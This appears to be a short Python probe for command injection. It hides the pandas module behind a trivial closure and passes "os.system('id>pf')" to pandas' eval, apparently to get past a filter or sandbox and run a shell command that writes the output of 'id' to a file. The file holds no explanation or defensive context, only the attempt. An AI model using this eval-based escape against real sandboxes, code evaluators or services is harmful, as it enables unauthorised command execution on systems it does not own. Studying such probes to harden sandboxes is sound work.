def my_clo(x):

    def f():
        return x
    return f
import pandas as pd, os
my_clo(pd)().eval("os.system('id>pf')")
